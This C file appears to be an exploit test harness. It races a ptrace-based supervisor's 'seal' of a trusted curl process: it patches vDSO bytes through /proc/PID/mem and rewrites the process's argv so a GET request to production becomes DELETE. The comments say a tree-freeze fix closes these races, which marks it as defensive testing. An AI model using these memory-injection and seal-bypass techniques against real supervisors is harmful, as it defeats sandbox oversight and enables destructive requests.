/* A tool trusted with production (`curl -X GET URL`, its argv understood) is sealed at its exec
 * stop: the supervisor, its tracer, runs prctl(PR_SET_DUMPABLE, 0) in it through the vDSO's
 * `syscall` instruction (two single steps), and compares its committed argv. Until the seal,
 * another process of the tree can still write the new image's memory. Two races in that seal:
 *
 *   seal-race MODE N CURL URL
 *
 *   gadget  between the check of the gadget's two bytes and the step that runs them, rewrite them
 *           through /proc/PID/mem to `xor eax, eax` (2 bytes, leaves rax 0, as the prctl would):
 *           a seal that takes that for the prctl leaves the tool dumpable. Then process_vm_writev
 *           its method GET -> DELETE (refused by the kernel if the seal really ran).
 *   argv    from the exec's commit on (its new name in /proc/PID/stat), process_vm_writev its
 *           method GET -> DELETE until a write lands: one whose access was checked before the
 *           seal and that copies after the compare gets through.
 *   memfd   open /proc/PID/mem from the commit on (before the seal), wait until the tool is let go,
 *           and write its method through that fd: the kernel checks a mem file's access at open,
 *           not at each write, so a seal does not take it back.
 * Both are closed by the supervisor holding the rest of the tree still from before the exec's
 * answer until after the seal (TreeFreeze): this process does not run in that window at all.
 *
 * The window is widened legitimately, as any tree process may: a spinner pinned to CPU 0 and the
 * tool (the attacker's own child) pinned there at nice 19, so each single step waits for the CPU
 * while the attacker, pinned to CPU 1, watches /proc/PID/stat (state 't': a ptrace stop; 'R':
 * resumed). The method is the last argument, followed by a padding environment string, so that
 * "DELETE" fits over "GET". N tries; prints "tries N ran R refused F killed K wrote W": the exec
 * ran (curl exited), failed (EPERM), or the child died of a signal (killed at its check); W: how
 * many of the final writes the kernel accepted. Whether a DELETE reached production is for the
 * server the test runs to say. Every syscall is checked; a failure exits 2. */
#include "race.h"
#include <elf.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/auxv.h>
#include <sys/resource.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

/* /proc/PID/stat of the child: its state, its minor faults (they grow once its own code runs:
 * the tracer's reads of its memory are counted to the tracer) and, while its memory may be read,
 * arg_start (0 once it is non-dumpable: the kernel hides the mm's fields then). 0 when it is gone. */
static int stat_of(int fd, char *state, unsigned long *minflt, unsigned long *arg_start, int *is_curl)
{
    char buf[1024];
    ssize_t n = pread(fd, buf, sizeof buf - 1, 0);
    if (n <= 0)
        return 0;
    buf[n] = 0;
    char *rp = strrchr(buf, ')');
    if (rp == NULL || rp[1] != ' ')
        return 0;
    *is_curl = strstr(buf, "(curl)") != NULL;
    *state = rp[2];
    char *p = rp + 2;
    for (int field = 3; field <= 48 && p != NULL; field++) {
        if (field == 10)
            *minflt = strtoul(p, NULL, 10);
        if (field == 48)
            *arg_start = strtoul(p, NULL, 10);
        p = strchr(p, ' ');
        if (p != NULL)
            p++;
    }
    return *state != 'Z' && *state != 'X';
}

static void write_method(pid_t c, unsigned long at, int *wrote)
{
    struct iovec l = {.iov_base = (void *)"DELETE", .iov_len = 7};
    struct iovec r = {.iov_base = (void *)at, .iov_len = 7};
    if (process_vm_writev(c, &l, 1, &r, 1, 0) == 7)
        (*wrote)++;
}

static int try_once(const char *mode, const char *curl, const char *url, long goff, int *wrote, int *missed)
{
    char *av[] = {(char *)curl, (char *)"-s", (char *)"-o", (char *)"/dev/null", (char *)url, (char *)"-X", (char *)"GET", NULL};
    char *ev[] = {(char *)"PAD=xxxxxxxx", (char *)"PATH=/usr/bin:/bin", NULL};
    /* Where "GET" lies in the committed argv: right after the strings before it. */
    unsigned long method_off = 0;
    for (int i = 0; i < 6; i++)
        method_off += strlen(av[i]) + 1;

    pid_t c = start_exec(curl, av, ev);
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/stat", c);
    int sfd = open(path, O_RDONLY | O_CLOEXEC);
    if (sfd < 0)
        DIE("open /proc/PID/stat");

    char state = 0;
    unsigned long arg_start = 0, flt = 0, flt0 = 0, a = 0;
    int is_curl = 0, mem = -1;
    unsigned long gadget = 0;
    double deadline = now() + 2;
    /* 1. The exec stop: committed (curl's name), stopped by its tracer; given up 20 ms after the
     * commit (the tracer was quicker than this watch, and curl runs). */
    double committed = 0;
    int eager = strcmp(mode, "gadget") != 0;
    while (stat_of(sfd, &state, &flt0, &arg_start, &is_curl) && !(is_curl && state == 't') && now() < deadline) {
        if (is_curl && committed == 0)
            committed = now();
        /* argv and memfd act from the commit on, as soon as the new image is there to reach. */
        if (eager && is_curl && arg_start != 0)
            break;
        if (committed != 0 && now() - committed > 0.02)
            break;
    }
    if (!(is_curl && arg_start != 0 && (eager || state == 't'))) {
        (*missed)++; /* not seen stopped (the tracer was quicker than this watch): nothing tried */
    } else {
        if (strcmp(mode, "gadget") == 0 || strcmp(mode, "memfd") == 0) {
            snprintf(path, sizeof path, "/proc/%d/mem", c);
            mem = open(path, O_RDWR | O_CLOEXEC);
        }
        if (strcmp(mode, "gadget") == 0 && mem >= 0) {
            unsigned long vdso = vdso_of(c);
            gadget = vdso != 0 ? vdso + goff : 0;
        }
        /* 2. The tracer resumes it for the seal's first step (the gadget's bytes and, before the
         * fix, its argv already checked): it waits for CPU 0. */
        while (stat_of(sfd, &state, &flt, &a, &is_curl) && state == 't' && now() < deadline) {
        }
        if (strcmp(mode, "argv") == 0) {
            /* Until a write lands, the tool is let go, or it is gone. */
            while (stat_of(sfd, &state, &flt, &a, &is_curl) && flt == flt0 && now() < deadline) {
                int before = *wrote;
                write_method(c, arg_start + method_off, wrote);
                if (*wrote != before)
                    break;
            }
        } else {
            if (gadget != 0)
                pwrite(mem, "\x31\xc0", 2, gadget); /* xor eax, eax */
            /* 3. Let go, its own code running (the dynamic loader's page faults), before its main. */
            while (stat_of(sfd, &state, &flt, &a, &is_curl) && flt == flt0 && now() < deadline) {
            }
            if (gadget != 0)
                pwrite(mem, "\x0f\x05", 2, gadget); /* the vDSO as it was, for curl's own calls */
            if (strcmp(mode, "memfd") == 0) {
                if (mem >= 0 && pwrite(mem, "DELETE", 7, arg_start + method_off) == 7)
                    (*wrote)++;
            } else {
                write_method(c, arg_start + method_off, wrote); /* refused by the kernel if the seal ran */
            }
        }
    }
    if (mem >= 0)
        close(mem);
    close(sfd);
    int st = finish_exec(c);
    return WIFSIGNALED(st) ? 2 : WEXITSTATUS(st) == 100 ? 1 : 0;
}

int main(int argc, char **argv)
{
    if (argc != 5 || (strcmp(argv[1], "gadget") != 0 && strcmp(argv[1], "argv") != 0 && strcmp(argv[1], "memfd") != 0)) {
        fprintf(stderr, "usage: seal-race gadget|argv|memfd N CURL URL\n");
        return 2;
    }
    int n = atoi(argv[2]);
    setvbuf(stdout, NULL, _IONBF, 0);
    long goff = need_gadget();
    pid_t spinner = start_spinner();
    int counts[3] = {0, 0, 0}, wrote = 0, missed = 0;
    for (int i = 0; i < n; i++)
        counts[try_once(argv[1], argv[3], argv[4], goff, &wrote, &missed)]++;
    stop_spinner(spinner);
    printf("tries %d ran %d refused %d killed %d wrote %d missed %d\n", n, counts[0], counts[1], counts[2], wrote, missed);
    return 0;
}
